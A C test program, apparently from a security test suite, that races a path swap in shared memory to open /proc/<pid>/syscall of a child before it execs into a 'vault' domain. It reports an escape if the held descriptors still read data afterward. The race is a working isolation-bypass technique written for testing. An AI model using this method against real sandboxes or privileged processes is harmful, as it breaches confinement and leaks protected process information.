/* Opens a file of a process before that enters another domain, as it is and by a path that is
 * swapped: it would show
   what the process becomes. */
#include "attack.h"
#include <limits.h>
#include <pthread.h>
#include <sys/mman.h>

static char *path;
static char wanted[64];
static volatile int over;

static void *swap(void *none) {
    while (!over) {
        strcpy(path, "granted");
        strcpy(path, wanted);
    }
    return none;
}

static int is_vault(pid_t pid) {
    char name[64], exe[PATH_MAX] = "";
    snprintf(name, sizeof name, "/proc/%d/exe", pid);
    return readlink(name, exe, sizeof exe - 1) > 5 && !strcmp(exe + strlen(exe) - 6, "/vault");
}

static void round_of(int swaps) {
    int ends[2], opened[64], count = 0;
    char data[64] = "", go;
    pthread_t thread;
    if (pipe(ends)) _exit(3);
    pid_t child = fork();
    if (child == 0) {
        char *words[] = {"vault", "memory", NULL};
        if (read(ends[0], &go, 1) != 1) _exit(3);
        execve("./vault", words, words + 2);
        _exit(3);
    }
    over = 0;
    snprintf(wanted, sizeof wanted, "/proc/%d/syscall", child);
    strcpy(path, wanted);
    if (swaps) pthread_create(&thread, NULL, swap, NULL);
    for (double end = now() + 0.2; now() < end && count < 64;) {
        int fd = open(path, O_RDONLY);
        if (fd >= 0 && pread(fd, data, 7, 0) == 7 && memcmp(data, "granted", 7)) opened[count++] = fd;
        else if (fd >= 0) close(fd);
    }
    over = 1;
    if (swaps) pthread_join(thread, NULL);
    if (write(ends[1], "!", 1) != 1) _exit(3);
    usleep(100000);
    /* On its way into the domain it already is the program, held before its first instruction, and
     * may yet be refused. */
    for (double end = now() + 5; now() < end && is_vault(child) && count;) usleep(10000);
    for (int n = 0; n < count; n++) {
        if (is_vault(child) && pread(opened[n], data, sizeof data, 0) > 0) escaped("shows the next domain");
        close(opened[n]);
    }
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
}

int main(void) {
    path = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    /* With the first, processes begin to differ. */
    for (int n = 0; n < 2; n++) {
        pid_t child = fork();
        if (child == 0) round_of(n == 0), round_of(n != 0), _exit(0);
        int status;
        waitpid(child, &status, 0);
        if (!WIFEXITED(status) || WEXITSTATUS(status)) return WIFEXITED(status) ? WEXITSTATUS(status) : 3;
    }
    return 0;
}
